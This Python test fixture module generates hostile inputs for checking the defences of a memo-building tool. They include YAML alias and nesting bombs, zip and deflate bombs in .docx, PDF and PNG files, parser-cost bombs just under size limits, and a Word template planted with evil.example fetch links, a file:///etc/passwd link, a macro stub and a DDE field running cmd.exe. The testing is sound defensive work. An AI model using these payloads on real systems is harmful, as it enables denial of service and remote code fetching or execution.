"""Hostile inputs, as an attacker would send them: each maker writes its files into a
folder and returns the spec that uses them. Shared by the tests and bench/bombs.py.

The compressed bombs are built without compressing gigabytes: a deflate stream of
repeated, fully flushed blocks of zeros expands to any size, and costs a few KB a GB.
"""

from __future__ import annotations

import os
import struct
import zlib
from collections.abc import Callable
from pathlib import Path

MB = 1024 * 1024

SPEC = """title: A memo
sources:
  src: {{file: {file}, title: The source}}
bluf: The bottom line.
sections:
  - title: Risks
    kind: risks
    points:
      - text: A risk.
        passages: [{{source: src, paragraph: 1}}]
"""


def spec_for(folder: Path, source: str) -> Path:
    """A valid spec citing paragraph 1 of `source`."""
    spec = folder / "memo.yaml"
    spec.write_text(SPEC.format(file=source), encoding="utf-8")
    return spec


def deflate_bomb(size: int, *, wrapper: bool) -> bytes:
    """A deflate stream (zlib-wrapped if `wrapper`) of `size` bytes of zeros, made of one
    fully flushed block of a megabyte repeated: a few KB for a GB."""
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = compressor.compress(bytes(MB)) + compressor.flush(zlib.Z_FULL_FLUSH)
    tail = zlib.compressobj(9, zlib.DEFLATED, -15).flush()  # a final, empty block
    body = block * (size // MB) + tail
    if not wrapper:
        return body
    checksum = 1
    for _ in range(size // MB):
        checksum = zlib.adler32(bytes(MB), checksum)
    return b"\x78\xda" + body + struct.pack(">I", checksum)


# --- YAML ---------------------------------------------------------------------------------

def yaml_alias_bomb(folder: Path) -> Path:
    lines = ['a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
    for index, name in enumerate("bcdefghi"):
        previous = "abcdefghi"[index]
        lines.append(f"{name}: &{name} [{','.join(['*' + previous] * 9)}]")
    spec = folder / "memo.yaml"
    spec.write_text("title: Lol\nbluf: x\nsources: {}\nsections: []\nextra:\n"
                    + "".join(f"  {line}\n" for line in lines), encoding="utf-8")
    return spec


def yaml_deep_nesting(folder: Path) -> Path:
    spec = folder / "memo.yaml"
    spec.write_text("title: Deep\nbluf: " + "[" * 5000 + "]" * 5000 + "\n", encoding="utf-8")
    return spec


def yaml_recursive_alias(folder: Path) -> Path:
    spec = folder / "memo.yaml"
    spec.write_text("title: Loop\nbluf: x\nsources: {}\nsections:\n"
                    "  - {title: R, kind: &r [*r]}\n", encoding="utf-8")
    return spec


def spec_too_large(folder: Path) -> Path:
    spec = folder / "memo.yaml"
    spec.write_text("title: Big\nbluf: |\n" + "  words and more words\n" * 100_000,
                    encoding="utf-8")
    return spec


def brackets(folder: Path) -> Path:
    (folder / "sources").mkdir(exist_ok=True)
    (folder / "sources" / "a.txt").write_text("The first paragraph.\n", encoding="utf-8")
    spec = spec_for(folder, "sources/a.txt")
    text = spec.read_text(encoding="utf-8").replace("bluf: The bottom line.",
                                                    "bluf: '" + "[" * 20_000 + "'")
    spec.write_text(text, encoding="utf-8")
    return spec


def unclosed_links(folder: Path) -> Path:
    """A bottom line of 20,000 links that never close, each holding balanced parentheses
    (`[a](x(y)`), then one whose address opens 20,000 pairs: the link pattern reads
    parentheses in addresses as CommonMark does, still in one pass."""
    spec = brackets(folder)
    text = spec.read_text(encoding="utf-8").replace(
        "'" + "[" * 20_000 + "'", "'" + "[a](x(y)" * 20_000 + "[a](" + "(x)" * 20_000 + "'")
    spec.write_text(text, encoding="utf-8")
    return spec


def table_of_code_spans(folder: Path, cells: int = 20_000) -> Path:
    """A pipe table with one row of 20,000 code spans holding pipes: Python-Markdown splits
    such a row in quadratic time (17 s), so a row of more cells than a table may have
    columns is refused before it is parsed."""
    (folder / "sources").mkdir(exist_ok=True)
    (folder / "sources" / "a.txt").write_text("The first paragraph.\n", encoding="utf-8")
    spec = spec_for(folder, "sources/a.txt")
    table = "| a | b |\n  |---|---|\n  | " + "`x|y` |" * cells + "\n"
    text = spec.read_text(encoding="utf-8").replace("bluf: The bottom line.",
                                                    "bluf: |\n  " + table)
    spec.write_text(text, encoding="utf-8")
    return spec


def largest_spec(folder: Path) -> Path:
    """A spec just under the 1 MB limit, dense with Markdown: 1,834 points, each citing a
    passage (not an attack: the most a spec may hold, which must still check quickly)."""
    (folder / "sources").mkdir(exist_ok=True)
    (folder / "sources" / "a.txt").write_text("The first paragraph.\n", encoding="utf-8")
    spec = spec_for(folder, "sources/a.txt")
    line = ("**Bold words** and *emphasis* with a [link](https://example.org/x) and "
            "`code` — ") * 6
    point = f"      - text: '{line}'\n        passages: [{{source: src, paragraph: 1}}]\n"
    one = "      - text: A risk.\n        passages: [{source: src, paragraph: 1}]\n"
    text = spec.read_text(encoding="utf-8")
    count = (MB - len(text)) // len(point.encode("utf-8"))
    spec.write_text(text.replace(one, point * count), encoding="utf-8")
    return spec


# --- Word ---------------------------------------------------------------------------------

def _zip(entries: dict[str, tuple[bytes, int, int]]) -> bytes:
    """A zip file of raw deflated entries: name -> (deflated data, crc, size it claims)."""
    out, central = bytearray(), bytearray()
    for name, (data, crc, size) in entries.items():
        encoded = name.encode()
        offset = len(out)
        out += struct.pack("<4s5H3I2H", b"PK\x03\x04", 20, 0, 8, 0, 0, crc, len(data), size,
                           len(encoded), 0) + encoded + data
        central += struct.pack("<4s6H3I5H2I", b"PK\x01\x02", 20, 20, 0, 8, 0, 0, crc,
                               len(data), size, len(encoded), 0, 0, 0, 0, 0,
                               offset) + encoded
    end = struct.pack("<4s4H2IH", b"PK\x05\x06", 0, 0, len(entries), len(entries),
                      len(central), len(out), 0)
    return bytes(out + central + end)


def _plain_part(text: bytes) -> tuple[bytes, int, int]:
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    return compressor.compress(text) + compressor.flush(), zlib.crc32(text), len(text)


CONTENT_TYPES = (b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/'
                 b'package/2006/content-types"><Default Extension="rels" ContentType="'
                 b'application/vnd.openxmlformats-package.relationships+xml"/><Override '
                 b'PartName="/word/document.xml" ContentType="application/vnd.openxmlformats'
                 b'-officedocument.wordprocessingml.document.main+xml"/></Types>')
RELS = (b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/'
        b'package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.'
        b'openxmlformats.org/officeDocument/2006/relationships/officeDocument" '
        b'Target="word/document.xml"/></Relationships>')


def docx_zip_bomb(folder: Path, size: int = 2048 * MB, *, honest: bool = True) -> Path:
    """A .docx whose document part inflates to `size` bytes; the zip says so (`honest`),
    or claims a few hundred bytes."""
    bomb = deflate_bomb(size, wrapper=False)
    crc = 0
    for _ in range(size // MB):
        crc = zlib.crc32(bytes(MB), crc)
    entries = {"[Content_Types].xml": _plain_part(CONTENT_TYPES),
               "_rels/.rels": _plain_part(RELS),
               "word/document.xml": (bomb, crc, size if honest else 300)}
    (folder / "sources").mkdir(exist_ok=True)
    (folder / "sources" / "bomb.docx").write_bytes(_zip(entries))
    return spec_for(folder, "sources/bomb.docx")


def docx_lying_zip_bomb(folder: Path) -> Path:
    return docx_zip_bomb(folder, honest=False)


# --- PDF ----------------------------------------------------------------------------------

def _pdf(content: bytes, filters: str = "/Filter /FlateDecode", length: str | None = None
         ) -> bytes:
    """A one-page PDF whose page draws `content` (with its cross-reference table)."""
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> >> >>",
        (f"<< {length or f'/Length {len(content)}'} {filters} >>\nstream\n").encode()
        + content + b"\nendstream",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]
    return pdf_file(objects)


def pdf_file(objects: list[bytes]) -> bytes:
    """A PDF of `objects` (numbered from 1, the first the catalog), with its
    cross-reference table."""
    out = bytearray(b"%PDF-1.4\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += f"{number} 0 obj\n".encode() + body + b"\nendobj\n"
    xref = len(out)
    out += f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n".encode()
    out += b"".join(f"{offset:010d} 00000 n \n".encode() for offset in offsets)
    out += (f"trailer\n<< /Size {len(objects) + 1} /Root 1 0 R >>\nstartxref\n{xref}\n"
            "%%EOF\n").encode()
    return bytes(out)


def pdf_flate_bomb(folder: Path) -> Path:
    (folder / "sources").mkdir(exist_ok=True)
    (folder / "sources" / "bomb.pdf").write_bytes(_pdf(deflate_bomb(1024 * MB, wrapper=True)))
    return spec_for(folder, "sources/bomb.pdf")


def pdf_operator_bomb(folder: Path) -> Path:
    operators = b"BT /F1 1 Tf 10 10 Td " + b"(a) Tj " * 2_000_000 + b"ET"
    (folder / "sources").mkdir(exist_ok=True)
    (folder / "sources" / "bomb.pdf").write_bytes(_pdf(zlib.compress(operators, 9)))
    return spec_for(folder, "sources/bomb.pdf")


def pdf_padded(folder: Path) -> Path:
    """A real page, its drawing padded with 5 MB of spaces: no bomb, but a PDF of 5 KB
    that unpacks to far more than a real one of its size, for a raised limit to let in."""
    content = b"BT /F1 12 Tf 72 720 Td (A padded page says hello.) Tj ET" + b" " * (5 * MB)
    (folder / "sources").mkdir(exist_ok=True)
    (folder / "sources" / "padded.pdf").write_bytes(_pdf(zlib.compress(content, 9)))
    return spec_for(folder, "sources/padded.pdf")


def pdf_self_length(folder: Path) -> Path:
    (folder / "sources").mkdir(exist_ok=True)
    content = b"BT /F1 12 Tf 72 720 Td (Hello) Tj ET"
    (folder / "sources" / "loop.pdf").write_bytes(_pdf(content, filters="",
                                                       length="/Length 4 0 R"))
    return spec_for(folder, "sources/loop.pdf")


# --- Files that are not files -------------------------------------------------------------

def dev_zero(folder: Path) -> Path:
    return spec_for(folder, "/dev/zero")


def fifo(folder: Path) -> Path:
    (folder / "sources").mkdir(exist_ok=True)
    os.mkfifo(folder / "sources" / "pipe.txt")
    return spec_for(folder, "sources/pipe.txt")


def huge_text(folder: Path) -> Path:
    (folder / "sources").mkdir(exist_ok=True)
    with open(folder / "sources" / "huge.txt", "wb") as stream:  # sparse: no disk used
        stream.truncate(2048 * MB)
    return spec_for(folder, "sources/huge.txt")


BOMBS: dict[str, Callable[[Path], Path]] = {
    "yaml alias bomb": yaml_alias_bomb, "yaml deep nesting": yaml_deep_nesting,
    "yaml recursive alias": yaml_recursive_alias, "spec of 2 MB": spec_too_large,
    "20,000 brackets": brackets, "20,000 unclosed links": unclosed_links,
    "spec of 1 MB (allowed)": largest_spec,
    "docx zip bomb": docx_zip_bomb,
    "docx lying zip bomb": docx_lying_zip_bomb, "pdf 1 GB stream": pdf_flate_bomb,
    "pdf 2M operators": pdf_operator_bomb, "pdf /Length loop": pdf_self_length,
    "/dev/zero": dev_zero, "fifo": fifo, "2 GB text source": huge_text,
}


# --- Templates ----------------------------------------------------------------------------

MEMO_REFERENCE = Path(__file__).resolve().parents[1] / "src/brief/templates/memo/reference.docx"


def template_spec(folder: Path, name: str, parts: dict[str, bytes]) -> Path:
    """A project whose spec uses the house template `name`, its reference.docx of
    `parts`."""
    import io
    import zipfile

    house = folder / "templates" / name
    house.mkdir(parents=True, exist_ok=True)
    (house / "template.yaml").write_text(f"name: {name}\n", encoding="utf-8")
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as package:
        for part, content in parts.items():
            package.writestr(part, content)
    (house / "reference.docx").write_bytes(out.getvalue())
    (folder / "sources").mkdir(exist_ok=True)
    (folder / "sources" / "a.txt").write_text("The first paragraph.\n", encoding="utf-8")
    spec = spec_for(folder, "sources/a.txt")
    spec.write_text(f"template: {name}\n" + spec.read_text(encoding="utf-8"), encoding="utf-8")
    return spec


def memo_reference_parts() -> dict[str, bytes]:
    """The parts of the built-in memo's reference.docx."""
    import zipfile

    with zipfile.ZipFile(MEMO_REFERENCE) as package:
        return {info.filename: package.read(info) for info in package.infolist()}


_W_NS = b'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'


def template_numbering_bomb(folder: Path, count: int = 200_000) -> Path:
    """A house template whose reference.docx (1.6 MB) holds `count` numbering definitions
    (an abstractNum and a num each): 48 MB of numbering.xml."""
    parts = memo_reference_parts()
    lists = b"".join(b'<w:abstractNum w:abstractNumId="%d"><w:lvl w:ilvl="0"><w:start '
                     b'w:val="1"/><w:numFmt w:val="decimal"/><w:lvlText w:val="%%1."/>'
                     b'<w:lvlJc w:val="left"/></w:lvl></w:abstractNum>' % i
                     for i in range(count))
    lists += b"".join(b'<w:num w:numId="%d"><w:abstractNumId w:val="%d"/></w:num>' % (i + 1, i)
                      for i in range(count))
    parts["word/numbering.xml"] = (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
                                   b"<w:numbering " + _W_NS + b">" + lists + b"</w:numbering>")
    return template_spec(folder, "lists", parts)


def template_styles_bomb(folder: Path, count: int = 100_000) -> Path:
    """A house template whose reference.docx holds `count` paragraph styles."""
    parts = memo_reference_parts()
    styles = b"".join(b'<w:style w:type="paragraph" w:styleId="S%d"><w:name w:val="S %d"/>'
                      b'<w:basedOn w:val="Normal"/><w:rPr><w:b/></w:rPr></w:style>' % (i, i)
                      for i in range(count))
    parts["word/styles.xml"] = parts["word/styles.xml"].replace(b"</w:styles>",
                                                                styles + b"</w:styles>")
    return template_spec(folder, "styles", parts)


# What the template of outside links points at: none may reach a memo.
OUTSIDE_TARGETS = ("http://evil.example/evil.dotm", "http://evil.example/frame.html",
                   "http://evil.example/sub.docx", "http://evil.example/pixel.png",
                   "http://evil.example/text.docx", "file:///etc/passwd",
                   "http://evil.example/logo.png", "http://evil.example/linked.png",
                   "\\\\evil.example\\share\\x.docx", "http://evil.example/styles",
                   "cmd.exe", "vbaProject")
HOUSE_SITE = "https://house.example/"  # the house's website in its footer: kept
_RELS_NS = b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
_OFFICE_R = b"http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def relationships_part(*relationships: tuple[str, str, str]) -> bytes:
    return (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>' + _RELS_NS
            + b"".join(f'<Relationship Id="{i}" Type="{_OFFICE_R.decode()}/{t}" Target="{x}" '
                       'TargetMode="External"/>'.encode() for i, t, x in relationships)
            + b"</Relationships>")


_LINKED_DRAWING = (
    '<w:r><w:drawing><wp:inline><wp:extent cx="360000" cy="360000"/><wp:docPr id="7" '
    'name="Linked"/><a:graphic xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main">'
    '<a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic '
    'xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:nvPicPr>'
    '<pic:cNvPr id="0" name="linked.png"/><pic:cNvPicPr/></pic:nvPicPr><pic:blipFill>'
    '<a:blip r:link="rIdLinked"/><a:stretch><a:fillRect/></a:stretch></pic:blipFill><pic:spPr>'
    '<a:xfrm><a:off x="0" y="0"/><a:ext cx="360000" cy="360000"/></a:xfrm><a:prstGeom '
    'prst="rect"><a:avLst/></a:prstGeom></pic:spPr></pic:pic></a:graphicData></a:graphic>'
    '</wp:inline></w:drawing></w:r>')
_HEADER_LINKS = (
    '<w:p><w:fldSimple w:instr=" INCLUDEPICTURE &quot;http://evil.example/pixel.png&quot; '
    '\\d "><w:r><w:t>picture</w:t></w:r></w:fldSimple>'
    '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> '
    'INCLUDETEXT "http://evil.example/</w:instrText></w:r><w:r><w:instrText>text.docx" '
    '</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>included'
    '</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>'
    '<w:hyperlink r:id="rIdPasswd"><w:r><w:t>Passwords</w:t></w:r></w:hyperlink>'
    '<w:r><w:pict><v:shape id="evil" style="width:20pt;height:20pt"><v:imagedata '
    'r:href="rIdLogo" o:href="http://evil.example/logo.png"/></v:shape></w:pict></w:r>'
    + _LINKED_DRAWING + '</w:p>')
_FOOTER_LINKS = (
    '<w:p><w:hyperlink r:id="rIdSite"><w:r><w:t>house.example</w:t></w:r></w:hyperlink>'
    '<w:r><w:t xml:space="preserve"> </w:t></w:r>'
    '<w:fldSimple w:instr=\'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"\'>'
    '<w:r><w:t>dde</w:t></w:r></w:fldSimple>'
    '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> '
    'HYPERLINK "\\\\evil.example\\share\\x.docx" </w:instrText></w:r><w:r><w:fldChar '
    'w:fldCharType="separate"/></w:r><w:r><w:t>share</w:t></w:r><w:r><w:fldChar '
    'w:fldCharType="end"/></w:r></w:p>')


def _before_end(xml: bytes, tag: bytes, insert: str) -> bytes:
    return xml.replace(b"</" + tag + b">", insert.encode() + b"</" + tag + b">")


def template_outside_links(folder: Path) -> Path:
    """A house template whose reference.docx reaches outside itself every way Word knows:
    an attached template on the web, an external frame, a subdocument, fields that fetch
    a picture and a text, a DDE field that runs a program, a link to /etc/passwd and one
    to a share, linked pictures (VML and DrawingML), an outside relationship of the
    styles, and macros; and a link to the house's website, which is kept."""
    parts = memo_reference_parts()
    settings = parts["word/settings.xml"]
    parts["word/settings.xml"] = settings.replace(b"<w:zoom ", b'<w:attachedTemplate '
                                                  b'r:id="rIdTemplate"/><w:zoom ', 1)
    parts["word/_rels/settings.xml.rels"] = relationships_part(
        ("rIdTemplate", "attachedTemplate", "http://evil.example/evil.dotm"))
    parts["word/webSettings.xml"] = parts["word/webSettings.xml"].replace(
        b"<w:allowPNG/>", b'<w:frameset><w:frame><w:name w:val="evil"/><w:sourceFileName '
        b'r:id="rIdFrame"/></w:frame></w:frameset><w:allowPNG/>')
    parts["word/_rels/webSettings.xml.rels"] = relationships_part(
        ("rIdFrame", "frame", "http://evil.example/frame.html"))
    parts["word/document.xml"] = parts["word/document.xml"].replace(
        b"<w:body>", b'<w:body><w:p><w:subDoc r:id="rIdSub"/></w:p>', 1)
    parts["word/_rels/document.xml.rels"] = _before_end(
        parts["word/_rels/document.xml.rels"], b"Relationships",
        '<Relationship Id="rIdSub" Type="http://schemas.openxmlformats.org/officeDocument/'
        '2006/relationships/subDocument" Target="http://evil.example/sub.docx" '
        'TargetMode="External"/><Relationship Id="rIdVba" Type="http://schemas.microsoft.com/'
        'office/2006/relationships/vbaProject" Target="vbaProject.bin"/>')
    parts["word/vbaProject.bin"] = b"\xd0\xcf\x11\xe0 macros that would run"
    parts["[Content_Types].xml"] = _before_end(
        parts["[Content_Types].xml"], b"Types",
        '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
    ).replace(b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main"
              b"+xml", b"application/vnd.ms-word.document.macroEnabled.main+xml")
    parts["word/header1.xml"] = _before_end(parts["word/header1.xml"], b"w:hdr", _HEADER_LINKS)
    parts["word/_rels/header1.xml.rels"] = relationships_part(
        ("rIdPasswd", "hyperlink", "file:///etc/passwd"),
        ("rIdLogo", "image", "http://evil.example/logo.png"),
        ("rIdLinked", "image", "http://evil.example/linked.png"))
    parts["word/footer1.xml"] = _before_end(parts["word/footer1.xml"], b"w:ftr", _FOOTER_LINKS)
    parts["word/_rels/footer1.xml.rels"] = relationships_part(("rIdSite", "hyperlink", HOUSE_SITE))
    parts["word/_rels/styles.xml.rels"] = relationships_part(("rIdStyles", "image",
                                                 "http://evil.example/styles"))
    return template_spec(folder, "outside", parts)


BOMBS |= {"template: 200,000 lists": template_numbering_bomb,
          "template: 100,000 styles": template_styles_bomb,
          "template: outside links": template_outside_links}

# --- Bombs under the size limits (issue 29): what costs is counted, not bytes ------------

WORD_NS = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"


def _repeated_part(head: bytes, unit: bytes, count: int, tail: bytes
                   ) -> tuple[bytes, int, int]:
    """A deflated part of `head`, `unit` `count` times and `tail`, made a block at a time
    (its whole never held in memory): the deflated data, its CRC and its size."""
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    out, crc, size = [], 0, 0
    per_block = max(1, MB // len(unit))
    block = unit * per_block
    pieces = [head, *[block] * (count // per_block), unit * (count % per_block), tail]
    for piece in pieces:
        out.append(compressor.compress(piece))
        crc = zlib.crc32(piece, crc)
        size += len(piece)
    out.append(compressor.flush())
    return b"".join(out), crc, size


def _word_source(folder: Path, unit: bytes, count: int, *, first: bytes = b"",
                 last: bytes = b"") -> Path:
    """A .docx source (sources/bomb.docx) whose body is `first`, then `unit` `count`
    times, then `last`."""
    head = (f'<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="{WORD_NS}">'
            "<w:body>").encode() + first
    entries = {"[Content_Types].xml": _plain_part(CONTENT_TYPES),
               "_rels/.rels": _plain_part(RELS),
               "word/document.xml": _repeated_part(head, unit, count,
                                                   last + b"</w:body></w:document>")}
    (folder / "sources").mkdir(exist_ok=True)
    (folder / "sources" / "bomb.docx").write_bytes(_zip(entries))
    return spec_for(folder, "sources/bomb.docx")


def docx_paragraph_bomb(folder: Path, paragraphs: int = 6_100_000) -> Path:
    """A .docx of 0.6 MB whose document.xml unpacks to 199 MB (under the 200 MB limit):
    6.1 million one-letter paragraphs."""
    return _word_source(folder, b"<w:p><w:r><w:t>a</w:t></w:r></w:p>", paragraphs)


def docx_run_bomb(folder: Path, runs: int = 8_000_000) -> Path:
    """A .docx of two paragraphs, a real one and one of 8 million one-letter runs: few
    paragraphs, 24 million XML elements, 190 MB unpacked."""
    return _word_source(folder, b"<w:r><w:t>a</w:t></w:r>", runs,
                        first=b"<w:p><w:r><w:t>The first paragraph.</w:t></w:r></w:p><w:p>",
                        last=b"</w:p>")


def docx_text_bomb(folder: Path, paragraphs: int = 21) -> Path:
    """A .docx of 21 paragraphs of 9 MB of text each: 190 MB unpacked, few elements."""
    return _word_source(folder, b"<w:p><w:r><w:t>" + b"word " * (9 * MB // 5)
                        + b"</w:t></w:r></w:p>", paragraphs)


def _pdf_pages(content: bytes, pages: int, filters: str = "/Filter /FlateDecode") -> bytes:
    """A PDF of `pages` pages, each drawing the same `content`."""
    first_page = 4
    objects = [b"<< /Type /Catalog /Pages 2 0 R >>",
               (f"<< /Type /Pages /Kids [{' '.join(f'{first_page + n} 0 R' for n in range(pages))}]"
                f" /Count {pages} >>").encode(),
               (f"<< /Length {len(content)} {filters} >>\nstream\n").encode() + content
               + b"\nendstream"]
    objects += [b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 3 0 R "
                b"/Resources << /Font << /F1 %d 0 R >> >> >>" % (first_page + pages)] * pages
    objects.append(b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>")
    return pdf_file(objects)


def _text_operators(size: int) -> bytes:
    """`size` bytes (about) of one-letter text operators, `(a) Tj ` and, one in five,
    `(b) Tj `: it deflates 33 times, within what a PDF may unpack to."""
    import random

    chooser = random.Random(29)
    block = b"".join(b"(b) Tj " if chooser.random() < 0.2 else b"(a) Tj "
                     for _ in range(MB // 7))
    return b"BT /F1 1 Tf 10 10 Td " + block * (size // len(block)) + b"ET"


def _pdf_source(folder: Path, data: bytes, name: str = "bomb.pdf") -> Path:
    (folder / "sources").mkdir(exist_ok=True)
    (folder / "sources" / name).write_bytes(data)
    return spec_for(folder, f"sources/{name}")


def pdf_text_bomb(folder: Path, size: int = 190 * MB) -> Path:
    """A PDF of 5.8 MB (for 190 MB) whose one page's content stream, deflated 33 times
    (under the 40 times a PDF may unpack to), holds `size` bytes of text operators."""
    compressor = zlib.compressobj(6)
    operators = _text_operators(size)
    content = compressor.compress(operators) + compressor.flush()
    return _pdf_source(folder, _pdf(content))


def pdf_plain_text_bomb(folder: Path, size: int = 43 * MB) -> Path:
    """The same, not compressed: a PDF of 45 MB (under the 50 MB a source may be)."""
    return _pdf_source(folder, _pdf(_text_operators(size), filters=""))


def pdf_drawing_bomb(folder: Path, operations: int = 3_000_000) -> Path:
    """A page of a line of text and `operations` drawing operators and operands
    (`x y m`, at random places), not compressed: each costs pdfminer's parser time, none
    lays out a character."""
    import random

    chooser = random.Random(29)
    content = b"BT /F1 12 Tf 72 720 Td (A page says hello.) Tj ET " + b"".join(
        b"%d %d m " % (chooser.randrange(1000), chooser.randrange(1000))
        for _ in range(operations // 3))
    return _pdf_source(folder, _pdf(content, filters=""))


def pdf_scattered_text(folder: Path, letters: int = 3_000) -> Path:
    """A page of `letters` letters, each set on its own at a random place: as many
    blocks of text, which pdfminer orders in time and memory as their number squared."""
    import random

    chooser = random.Random(29)
    content = b"BT /F1 4 Tf " + b"".join(
        b"1 0 0 1 %d %d Tm (a) Tj " % (chooser.randrange(590), chooser.randrange(840))
        for _ in range(letters)) + b"ET"
    return _pdf_source(folder, _pdf(zlib.compress(content, 6)))


def pdf_many_pages(folder: Path, pages: int = 6_000, blocks: int = 1) -> Path:
    """A PDF of `pages` pages, each with a line of text and `blocks` - 1 more lines far
    below it (one content stream for all)."""
    content = (b"BT /F1 12 Tf 72 720 Td (A page of many says hello.) Tj"
               + b" 0 -200 Td (A block below.) Tj" * (blocks - 1) + b" ET")
    return _pdf_source(folder, _pdf_pages(content, pages, filters=""))


BOMBS.update({
    "docx 6.1M paragraphs": docx_paragraph_bomb, "docx 8M runs in 1 ¶": docx_run_bomb,
    "docx 190 MB of text": docx_text_bomb, "pdf 190 MB text stream": pdf_text_bomb,
    "pdf 45 MB plain text": pdf_plain_text_bomb, "pdf 3M drawing ops": pdf_drawing_bomb,
    "pdf 3,000 scattered ¶": pdf_scattered_text, "pdf 6,000 pages": pdf_many_pages,
})

# --- Chart data (issue 24): what a chart reads is held to the limits of what a build reads -

CHART_POINT = """      - text: A chart.
        chart:
          type: bar
          title: Exports
{keys}
"""


def chart_spec(folder: Path, keys: str) -> Path:
    """A valid spec with a bar chart of the keys `keys` (YAML lines, indented by 10), in a
    project of its own (a brief.yaml marks its root)."""
    (folder / "brief.yaml").write_text("", encoding="utf-8")
    (folder / "sources").mkdir(exist_ok=True)
    (folder / "sources" / "a.txt").write_text("The first paragraph.\n", encoding="utf-8")
    spec = spec_for(folder, "sources/a.txt")
    spec.write_text(spec.read_text(encoding="utf-8") + CHART_POINT.format(keys=keys),
                    encoding="utf-8")
    return spec


def csv_million_rows(folder: Path) -> Path:
    """A CSV of a million rows (8 MB, under the 10 MB limit): refused by its row count."""
    (folder / "data").mkdir(exist_ok=True)
    with (folder / "data" / "big.csv").open("w", encoding="utf-8") as out:
        out.write("partner,share\n")
        for _ in range(1000):
            out.write("Russia,41\n" * 1000)
    return chart_spec(folder, "          data: data/big.csv")


def csv_of_non_numbers(folder: Path) -> Path:
    """A chart whose values are words, the first on line 3 of its CSV."""
    (folder / "data").mkdir(exist_ok=True)
    (folder / "data" / "words.csv").write_text(
        "partner,share\nRussia,41\n" + "EU,lots\n" * 50, encoding="utf-8")
    return chart_spec(folder, "          data: data/words.csv")


def csv_outside_the_project(folder: Path) -> Path:
    """A chart whose data is a file outside the project: never read."""
    return chart_spec(folder, "          data: ../outside.csv")


def csv_device(folder: Path) -> Path:
    """A chart whose data is /dev/zero: outside the project, and endless."""
    return chart_spec(folder, "          data: /dev/zero")


def csv_too_large(folder: Path) -> Path:
    """A CSV of 11 MB, over the 10 MB limit: refused before it is read."""
    (folder / "data").mkdir(exist_ok=True)
    with (folder / "data" / "large.csv").open("wb") as out:
        out.write(b"partner,share\n")
        out.truncate(11 * MB)
    return chart_spec(folder, "          data: data/large.csv")


BOMBS.update({
    "csv 1M rows": csv_million_rows, "csv of non-numbers": csv_of_non_numbers,
    "csv outside the project": csv_outside_the_project, "csv /dev/zero": csv_device,
    "csv of 11 MB": csv_too_large,
})

# --- Pictures (figures and Markdown images) ------------------------------------------------

FIGURE_SPEC = """title: A memo
sources:
  src: {{file: sources/a.txt, title: The source}}
bluf: The bottom line.
sections:
  - title: Risks
    kind: risks
    points:
      - text: A risk.
        passages: [{{source: src, paragraph: 1}}]
        figure:
          file: {file}
          alt: What the picture shows.
          caption: The picture.
"""


def figure_spec_for(folder: Path, picture: str) -> Path:
    """A valid spec whose one figure is `picture` (line 12 names it)."""
    (folder / "sources").mkdir(exist_ok=True)
    (folder / "sources" / "a.txt").write_text("The first paragraph.\n", encoding="utf-8")
    spec = folder / "memo.yaml"
    spec.write_text(FIGURE_SPEC.format(file=picture), encoding="utf-8")
    return spec


def png_bytes(width: int, height: int, data: bytes | None = None, *, grey: bool = True
              ) -> bytes:
    """A PNG of `width` × `height` (grey, or RGB), its IDAT `data` (zlib: the rows, each
    after its filter byte) or all zeros."""
    def chunk(kind: bytes, body: bytes) -> bytes:
        return (struct.pack(">I", len(body)) + kind + body
                + struct.pack(">I", zlib.crc32(kind + body) & 0xFFFFFFFF))

    if data is None:
        row = bytes(1 + width * (1 if grey else 3))
        data = zlib.compress(row * height)
    header = struct.pack(">IIBBBBB", width, height, 8, 0 if grey else 2, 0, 0, 0)
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", data)
            + chunk(b"IEND", b""))


def _picture(folder: Path, name: str, data: bytes) -> Path:
    (folder / "figures").mkdir(exist_ok=True)
    (folder / "figures" / name).write_bytes(data)
    return figure_spec_for(folder, f"figures/{name}")


def png_bomb(folder: Path, side: int = 30_000) -> Path:
    """A PNG of 30,000 × 30,000 grey pixels: 900 MB decoded, 1 MB on disk (its rows of
    zeros a deflate bomb)."""
    size = side * (side + 1)
    stream = deflate_bomb(size - size % MB, wrapper=False)  # the first whole megabytes
    return _picture(folder, "bomb.png", png_bytes(side, side, b"\x78\xda" + stream + bytes(4)))


